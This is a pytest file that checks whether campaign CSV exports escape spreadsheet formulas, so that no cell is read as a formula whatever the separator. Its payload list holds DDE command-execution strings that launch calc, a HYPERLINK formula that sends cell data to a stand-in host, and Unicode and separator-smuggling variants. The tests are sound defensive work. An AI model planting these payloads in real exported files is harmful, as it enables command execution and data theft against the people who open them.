"""No cell of a campaign file is a formula to a spreadsheet, whatever separates its lists."""

import csv
from pathlib import Path

import duckdb
import pytest

from publishing.files import text_cell, write_campaigns

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "a;=1+1",
    'a";=1+1',
    'a",=1+1',
    "a\n=1+1",
    'a;"=1+1"',
    "a; =1+1",
]
STARTS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        *[(text, "'" + text) for text in PAYLOADS[:5]],
        ("\t=1+1", "'\t'=1+1"),
        ("a;=1", "a;'=1"),
        *[(text, text) for text in ("17850", "a=b", "O'Neill; 5", "ß", "", "a, -b", "a - b; c", '"q"')],
    ],
)
def test_a_formula_becomes_text_and_all_else_stays(text: str, expected: str) -> None:
    query = f"select {text_cell('x')} from (select ? as x)"
    assert duckdb.execute(query, [text]).fetchall() == [(expected,)]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_campaign_files_read_with_either_separator_hold_no_formula(tmp_path: Path, separator: str) -> None:
    with duckdb.connect() as connection:
        connection.execute("create table segment_profiles as select 'champions' as segment_key")
        connection.execute(
            """
            create table customer_segments as
            select
                x as customer_id, 'champions' as segment_key, x as segment_name, x as recommended_action
            from (select unnest(?::varchar[]) as x)
            """,
            [PAYLOADS],
        )
        connection.execute(
            """
            create table segment_history as
            select customer_id, segment_name, date '2024-01-01' as valid_from, date '2024-02-01' as valid_to
            from customer_segments
            """
        )
        assert write_campaigns(connection, tmp_path, has_history=True) == {
            "campaigns/champions.csv": len(PAYLOADS)
        }
    with (tmp_path / "campaigns" / "champions.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, delimiter=separator))
    assert len(rows) > len(PAYLOADS)
    assert not [cell for row in rows for cell in row if cell.lstrip(' "')[:1] in STARTS]
